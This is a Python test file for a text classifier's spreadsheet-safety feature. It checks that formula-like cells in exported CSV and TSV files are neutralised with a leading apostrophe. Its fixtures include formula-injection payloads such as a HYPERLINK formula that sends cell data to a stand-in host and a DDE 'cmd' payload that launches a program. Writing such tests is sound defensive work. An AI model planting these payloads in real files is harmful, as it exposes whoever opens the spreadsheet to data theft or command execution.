"""What a spreadsheet would compute: never in our own CSV files, and not in a prediction's where that is asked for."""

import csv
import io
import shutil
from pathlib import Path

import pyarrow as pa
import pytest

from bbc_classifier.audit.options import AuditArguments
from bbc_classifier.audit.run import audit
from bbc_classifier.cli import main
from bbc_classifier.comparison.report import table
from bbc_classifier.data.formats.read import read_table
from bbc_classifier.data.formats.spreadsheet import spreadsheet_safe
from bbc_classifier.data.options import DataArguments
from bbc_classifier.spreadsheet import plain_cell
from tests.data.stories import write_csv
from tests.refusals import assert_refused

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1+1"]
TEXTS = ["sport", "a=b", "", "1-1", "é", "'=1", "x\n=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text):
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [*TEXTS, -1.5, 7, None, True])
def test_everything_else_stays_as_it_is(value):
    assert plain_cell(value) is value


def test_a_table_is_treated_as_single_cells_are():
    rows = [*FORMULAS, *TEXTS, None]
    given = pa.table({"=name": rows, "numbers": [-1.5] * len(rows), "lists": [["=1", "x"]] * len(rows)})
    safe = spreadsheet_safe(given)
    assert safe.column_names == ["'=name", "numbers", "lists"]
    assert safe["'=name"].to_pylist() == [plain_cell(text) for text in rows]
    assert safe["numbers"].to_pylist() == [-1.5] * len(rows)
    assert safe["lists"].to_pylist() == ["'=1;x"] * len(rows)


@pytest.fixture
def work(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    write_csv(Path("in.csv"), [["the goal", "=1+1", "-5"], ["=cmd|' /C calc'!A0", "x", "7"]], ["text", "=id", "n"])
    return tmp_path


def test_predictions_give_columns_back_unchanged_unless_asked(work, tiny_classifier_folder, capsys):
    command = ["predict", "--model", tiny_classifier_folder, "--input", "in.csv", "--output"]
    assert main([*command, "plain.csv"]) == 0
    given, plain = read_table(Path("in.csv")), read_table(Path("plain.csv"))
    assert {name: plain[name] for name in given.column_names} == {name: given[name] for name in given.column_names}
    for output in ("safe.csv", "safe.tsv"):
        assert main([*command, output, "--spreadsheet_safe"]) == 0
        safe = read_table(Path(output))
        assert safe.column_names[:3] == ["text", "'=id", "n"]
        assert [safe[name].to_pylist() for name in safe.column_names[:3]] == [
            *(["the goal", "'=cmd|' /C calc'!A0"], ["'=1+1", "x"], ["'-5", "7"]),
        ]
    assert_refused([*command, "out.jsonl", "--spreadsheet_safe"], "is for .csv and .tsv, not '.jsonl'", capsys)


def test_our_own_files_never_hold_one(nasty, work):
    nasty["configurations"][0]["name"] = "=1+1"
    rows = list(csv.DictReader(io.StringIO(table(nasty))))
    assert rows[0]["configuration"] == "'=1+1"
    shutil.move("in.csv", "=1.csv")
    write_csv(Path("=1.csv"), [["the goal", "=1+1"], ["the goal", "@x"], ["film", "@x"]])
    folder = audit(AuditArguments(encoder="none", output_dir="out"), DataArguments(dataset="./=1.csv"))
    (pair,) = list(csv.DictReader((folder / "pairs.csv").open(encoding="utf-8")))
    assert [pair[name] for name in ("first_row_id", "first_label", "second_label")] == ["'=1.csv:1", "'=1+1", "'@x"]
